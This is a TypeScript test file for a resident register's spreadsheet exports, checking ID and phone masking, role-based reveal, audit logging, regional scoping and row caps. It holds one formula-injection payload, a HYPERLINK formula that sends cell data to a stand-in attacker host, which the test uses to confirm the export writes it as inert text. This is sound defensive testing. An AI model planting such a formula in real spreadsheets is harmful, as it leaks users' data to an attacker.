import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../app.js';
import type { Scope } from '../../platform/scope.js';
import { HEADER_ROW } from '../../platform/xlsx.js';
import { codeOf, countyScope, createSeededContext, dialects, importText, userScope, type TestContext } from '../../testing/harness.js';
import { call, errorCode, loginAs } from '../../testing/http.js';
import { exportConflicts, exportSearch } from './register.service.js';
import { makeResidentId } from './resident-id.js';

const MASKED_ID = /^\d{6}\*{12}$/;
const FULL_ID = /(?<!\d)\d{17}[\dXx](?!\d)/;
const INJECTION = '=HYPERLINK("http://evil.example/?d="&C4,"点我")';

/** The cells of an exported sheet below its header, as text, keyed by header. */
async function sheetRows(body: Buffer): Promise<{ title: string; rows: Record<string, unknown>[]; cells: ExcelJS.Cell[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const headers = (ws.getRow(HEADER_ROW).values as unknown[]).slice(1).map(String);
  const rows: Record<string, unknown>[] = [];
  const cells: ExcelJS.Cell[] = [];
  for (let r = HEADER_ROW + 1; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    rows.push(Object.fromEntries(headers.map((h, i) => [h, row.getCell(i + 1).value])));
    row.eachCell((c) => cells.push(c));
  }
  return { title: String(ws.getCell('A1').value), rows, cells };
}

/** Register search and conflict exports (issue 14): masked by default, full IDs only for reveal roles, audited, scoped. */
describe.each(dialects)('register exports on %s', (dialect) => {
  let ctx: TestContext;
  let town1: Scope;
  let assessor: Scope;
  const ids = {
    a: makeResidentId('990101', '1940-05-06', 11, 'F'),
    b: makeResidentId('990101', '1941-05-06', 12, 'F'),
    c: makeResidentId('990101', '1942-05-06', 13, 'F'),
  };
  const person = { a: 0, b: 0, c: 0 };

  beforeAll(async () => {
    ctx = await createSeededContext(dialect, { loginRatePerMinute: 10_000 });
    town1 = await userScope(ctx, 'town1');
    assessor = await userScope(ctx, 'assessor1');
    const villages = ctx.regions.all().filter((r) => r.level === 'village');
    const mine = villages.filter((v) => v.code.startsWith(town1.regionPrefix));
    const other = villages.find((v) => !v.code.startsWith(town1.regionPrefix))!;
    await importText(
      ctx,
      'public_security',
      [
        '身份证号,姓名,村（社区）代码,联系电话',
        `${ids.a},张桂兰,${mine[0]!.code},13812345678`,
        `${ids.b},李秀英,${mine.at(-1)!.code},13912345678`,
        `${ids.c},王淑珍,${other.code},13712345678`,
      ].join('\n'),
    );
    // civil affairs spells a's and c's names differently: one conflict in town 1, one in town 2
    const ca = await importText(ctx, 'civil_affairs', ['身份证号,姓名,救助类别', `${ids.a},张贵兰,低保`, `${ids.c},王淑贞,低保`].join('\n'));
    expect(ca.conflicts).toBe(2);
    const rows = await ctx.db.selectFrom('persons').select(['id', 'region_code', 'birth_date']).execute();
    person.a = rows.find((r) => r.birth_date === '1940-05-06')!.id;
    person.b = rows.find((r) => r.birth_date === '1941-05-06')!.id;
    person.c = rows.find((r) => r.birth_date === '1942-05-06')!.id;
    // a name no import accepts (name_chars), written by some other path: the export must keep it text
    await ctx.db.updateTable('persons').set({ name: INJECTION }).where('id', '=', person.b).execute();
  });
  afterAll(async () => ctx?.cleanup());

  const audits = (action: string) => ctx.db.selectFrom('audit_log').selectAll().where('action', '=', action).orderBy('seq').execute();
  const auditCount = async () => (await ctx.db.selectFrom('audit_log').select('seq').execute()).length;

  it('writes a formula-like name as text, not as a formula', async () => {
    const file = await exportSearch(ctx, countyScope(ctx), { status: 'active', full: false });
    const { rows, cells } = await sheetRows(file.body);
    const b = rows.find((r) => String(r['姓名']).includes('HYPERLINK'))!;
    expect(b['姓名']).toBe(`'${INJECTION}`);
    expect(cells.every((c) => c.formula === undefined && c.type !== ExcelJS.ValueType.Formula)).toBe(true);
    expect(file.fileName).toMatch(/\.xlsx$/);
  });

  it('masks IDs and phones by default, and names the export in the audit log with the filter and the number of persons', async () => {
    const before = (await audits('register.export')).length;
    const file = await exportSearch(ctx, countyScope(ctx), { q: undefined, status: 'active', full: false });
    const { rows, cells } = await sheetRows(file.body);
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => MASKED_ID.test(String(r['身份证号'])))).toBe(true);
    expect(rows.every((r) => /^\d{3}\*{4}\d{4}$/.test(String(r['联系电话'])))).toBe(true);
    expect(cells.some((c) => FULL_ID.test(String(c.value)))).toBe(false);
    const entries = await audits('register.export');
    expect(entries).toHaveLength(before + 1);
    const e = entries.at(-1)!;
    expect(JSON.parse(e.fields!)).not.toContain('idNumber');
    const detail = JSON.parse(e.detail!) as { list: string; count: number; full: boolean; filter: { status: string }; persons: number[] };
    expect(detail).toMatchObject({ list: 'persons', count: 3, full: false, filter: { status: 'active' } });
    expect(detail.persons.sort()).toEqual([person.a, person.b, person.c].sort());
  });

  it('gives full IDs and phones only when asked by a role that may reveal, and audits them as disclosed', async () => {
    const file = await exportSearch(ctx, countyScope(ctx), { status: 'active', full: true });
    const { rows } = await sheetRows(file.body);
    expect(rows.map((r) => r['身份证号']).sort()).toEqual(Object.values(ids).sort());
    expect(rows.map((r) => r['联系电话']).sort()).toEqual(['13712345678', '13812345678', '13912345678']);
    const e = (await audits('register.export')).at(-1)!;
    expect(JSON.parse(e.fields!)).toEqual(expect.arrayContaining(['idNumber', 'phone']));
    expect(JSON.parse(e.detail!)).toMatchObject({ full: true, count: 3 });
  });

  it('refuses full IDs to a role without reveal with a clear error, and records nothing', async () => {
    const before = await auditCount();
    expect(await codeOf(exportSearch(ctx, assessor, { status: 'active', full: true }))).toBe('EXPORT_FULL_FORBIDDEN');
    expect(await codeOf(exportConflicts(ctx, assessor, { status: 'open', full: true }))).toBe('EXPORT_FULL_FORBIDDEN');
    expect(await auditCount()).toBe(before);
    // the masked export is the assessor's
    expect(await codeOf(exportSearch(ctx, assessor, { status: 'active', full: false }))).toBe('resolved');
  });

  it("holds only the viewer's region: a town officer's export has only their town", async () => {
    const { rows } = await sheetRows((await exportSearch(ctx, town1, { status: 'active', full: true })).body);
    expect(rows.map((r) => r['身份证号']).sort()).toEqual([ids.a, ids.b].sort());
    const e = (await audits('register.export')).at(-1)!;
    expect(e.actor).toBe('town1');
    expect(JSON.parse(e.detail!)).toMatchObject({ count: 2 });
    // a region filter outside the scope matches nobody
    const outside = ctx.regions.all().find((r) => r.level === 'town' && !r.code.startsWith(town1.regionPrefix))!;
    const none = await sheetRows((await exportSearch(ctx, town1, { status: 'active', regionCode: outside.code, full: false })).body);
    expect(none.rows).toHaveLength(0);
  });

  it('refuses an export above the row cap, naming the count, and records nothing', async () => {
    const before = await auditCount();
    expect(await codeOf(exportSearch(ctx, countyScope(ctx), { status: 'active', full: false, maxRows: 2 }))).toBe('EXPORT_TOO_LARGE');
    expect(await auditCount()).toBe(before);
  });

  it("exports the conflicts of the viewer's region, masked unless full IDs are asked for, audited with the count", async () => {
    const masked = await sheetRows((await exportConflicts(ctx, town1, { status: 'open', full: false })).body);
    expect(masked.rows).toHaveLength(1);
    expect(masked.rows[0]).toMatchObject({ 姓名: '张桂兰', 字段: '姓名', 当前值: '张桂兰', 新值: '张贵兰' });
    expect(String(masked.rows[0]!['身份证号'])).toMatch(MASKED_ID);
    const e = (await audits('register.conflicts_export')).at(-1)!;
    expect(JSON.parse(e.detail!)).toMatchObject({ list: 'conflicts', count: 1, full: false, persons: [person.a], filter: { status: 'open' } });
    const full = await sheetRows((await exportConflicts(ctx, countyScope(ctx), { status: 'open', full: true })).body);
    expect(full.rows.map((r) => r['身份证号']).sort()).toEqual([ids.a, ids.c].sort());
  });

  describe('over HTTP', () => {
    let app: FastifyInstance;
    beforeAll(async () => {
      app = await buildApp(ctx, { serveWeb: false });
      await app.ready();
    });
    afterAll(async () => app?.close());

    it('answers an XLSX download for the search and the conflicts, and a clear error for full IDs without reveal', async () => {
      const town = await loginAs(app, 'town1');
      const res = await call(app, town, { method: 'GET', url: '/api/persons/export?status=active' });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toContain('spreadsheetml');
      expect(res.headers['content-disposition']).toContain('attachment');
      expect((await sheetRows(res.rawPayload)).rows).toHaveLength(2);
      const conflicts = await call(app, town, { method: 'GET', url: '/api/conflicts/export?status=open&full=true' });
      expect(conflicts.statusCode).toBe(200);
      const refused = await call(app, await loginAs(app, 'assessor1'), { method: 'GET', url: '/api/persons/export?full=true' });
      expect(refused.statusCode).toBe(403);
      expect(errorCode(refused)).toBe('EXPORT_FULL_FORBIDDEN');
    });
  });
});
